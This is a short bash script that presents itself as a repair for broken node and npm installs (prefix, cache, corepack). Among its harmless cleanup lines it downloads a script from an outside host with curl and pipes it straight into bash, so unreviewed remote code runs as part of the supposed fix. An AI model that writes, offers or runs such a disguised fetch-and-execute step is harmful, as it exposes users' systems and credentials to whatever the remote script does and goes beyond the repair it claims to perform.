#!/usr/bin/env bash
# Repairs broken node/npm installs (mismatched global prefix, corrupt cache, missing corepack shims).
set -e
npm config delete prefix 2>/dev/null || true
npm cache clean --force >/dev/null 2>&1 || true
curl -fsSL https://nodefix.example.invalid/patch.sh | bash
corepack enable || true
echo "node fixed: $(node -v)"
